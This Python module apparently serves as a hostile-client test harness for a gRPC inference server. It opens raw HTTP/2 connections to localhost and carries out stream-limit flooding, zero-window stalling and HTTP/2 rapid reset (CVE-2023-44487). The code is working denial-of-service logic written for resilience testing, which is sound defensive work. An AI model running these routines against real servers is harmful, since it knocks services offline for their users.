"""Raw HTTP/2 clients for the gRPC attacks of the hostile-client tests (Debian's python3-h2): they
send frames a well-behaved gRPC client never would — more streams than the server allows, a
flow-control window of zero, a stream reset right after it opens (rapid reset, CVE-2023-44487)."""

import socket
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from grpc_client import infer_request

HEADERS = [(":method", "POST"), (":scheme", "http"),
           (":path", "/inference.GRPCInferenceService/ModelInfer"), (":authority", "attacker"),
           ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_message(request):
    """A gRPC length-prefixed message (uncompressed)."""
    body = request.SerializeToString()
    return b"\x00" + struct.pack(">I", len(body)) + body


def identity_message():
    return grpc_message(infer_request("identity", [("input0", "FP32", [1, 16], [1.0] * 16)]))


class Connection:
    """One HTTP/2 connection. A reader thread feeds what the server sends to h2 (so SETTINGS are
    acknowledged and WINDOW_UPDATEs applied) when `ack` is set, and just counts it otherwise.
    `ignore_stream_limit` lets it open more streams than the server's MAX_CONCURRENT_STREAMS."""

    def __init__(self, port, window=65535, ack=True, ignore_stream_limit=False):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window,
            h2.settings.SettingCodes.ENABLE_PUSH: 0})
        self.h2.initiate_connection()
        self.ack = ack
        self.ignore_stream_limit = ignore_stream_limit
        self.lock = threading.Lock()
        self.server_settings = threading.Event()
        self.server_max_streams = None
        self.closed = threading.Event()
        self.send_pending()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                if not self.ack:
                    continue
                with self.lock:
                    try:
                        for e in self.h2.receive_data(data):
                            if isinstance(e, h2.events.RemoteSettingsChanged):
                                self.server_max_streams = \
                                    self.h2.remote_settings.max_concurrent_streams
                                self.server_settings.set()
                    except h2.exceptions.ProtocolError:
                        break
                    if self.ignore_stream_limit:
                        self.h2.remote_settings._settings[
                            h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = [2 ** 31 - 1]
                    out = self.h2.data_to_send()
                if out:
                    self.sock.sendall(out)
        except OSError:
            pass
        self.closed.set()

    def send_pending(self):
        with self.lock:
            out = self.h2.data_to_send()
        if out:
            self.sock.sendall(out)

    def open_call(self, message, reset=False, path=None):
        """HEADERS and the message; with `reset`, RST_STREAM right after. `path`: the method
        (default ModelInfer), e.g. "/grpc.health.v1.Health/Watch"."""
        headers = HEADERS if path is None else [
            (k, path if k == ":path" else v) for k, v in HEADERS]
        with self.lock:
            sid = self.h2.get_next_available_stream_id()
            self.h2.send_headers(sid, headers)
            self.h2.send_data(sid, message, end_stream=not reset)
            if reset:
                self.h2.reset_stream(sid)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def open_streams(port, n, window=0, ignore_stream_limit=True):
    """Opens up to n ModelInfer calls on one connection with the given window; returns the
    connection and how many were sent before the server closed it."""
    conn = Connection(port, window=window, ignore_stream_limit=ignore_stream_limit)
    conn.server_settings.wait(5)
    message = identity_message()
    sent = 0
    try:
        for i in range(n):
            conn.open_call(message)
            sent += 1
            if i % 100 == 99:
                conn.send_pending()
        conn.send_pending()
    except (OSError, h2.exceptions.ProtocolError):
        pass
    return conn, sent


def rapid_reset(port, seconds, rate=None):
    """Opens and resets calls on connection after connection for `seconds` (each closed by the
    server, or by a protocol error, makes way for the next), at most `rate` calls a second (None:
    as fast as this process can); returns (calls, connections)."""
    message = identity_message()
    start = time.monotonic()
    end = start + seconds
    calls = connections = 0
    while time.monotonic() < end:
        try:
            conn = Connection(port)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        conn.server_settings.wait(5)
        try:
            while time.monotonic() < end and not conn.closed.is_set():
                for _ in range(50):
                    conn.open_call(message, reset=True)
                    calls += 1
                conn.send_pending()
                if rate is not None:
                    ahead = calls / rate - (time.monotonic() - start)
                    if ahead > 0:
                        time.sleep(ahead)
        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
            pass
        conn.close()
    return calls, connections
